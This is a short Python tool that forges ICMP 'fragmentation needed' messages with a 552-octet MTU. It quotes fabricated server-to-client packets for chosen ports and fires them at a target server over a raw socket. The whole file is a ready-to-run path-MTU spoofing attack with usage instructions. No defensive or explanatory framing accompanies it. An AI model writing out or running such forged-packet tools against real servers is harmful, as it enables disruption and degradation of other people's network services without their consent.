"""Forged ICMP messages: "fragmentation needed", the next link takes 552 octets, for packets that a server has sent.

Usage: fragneeded.py SERVER CLIENT PORT…; quotes a packet from each PORT of SERVER to CLIENT. Prints how many were sent.
"""

import socket
import struct
import sys

MTU = 552
SENDERS = 3  # messages for each port


def checksum(octets):
    total = sum(struct.unpack("!%dH" % (len(octets) // 2), octets))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def message(server, client, port):
    """RFC 1191: type 3, code 4, the MTU in the last two octets; then the packet's head and eight octets more."""
    quoted = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 1460, 1, 0, 64, 17, 0, socket.inet_aton(server),
                         socket.inet_aton(client))
    quoted = quoted[:10] + struct.pack("!H", checksum(quoted)) + quoted[12:]
    quoted += struct.pack("!HHHH", port, 2000, 1440, 0)
    head = struct.pack("!BBHHH", 3, 4, 0, 0, MTU)
    return struct.pack("!BBHHH", 3, 4, checksum(head + quoted), 0, MTU) + quoted


def main():
    server, client, *ports = sys.argv[1:]
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as raw:
        for port in ports:
            for _ in range(SENDERS):
                raw.sendto(message(server, client, int(port)), (server, 0))
                sent += 1
    print(sent)


main()
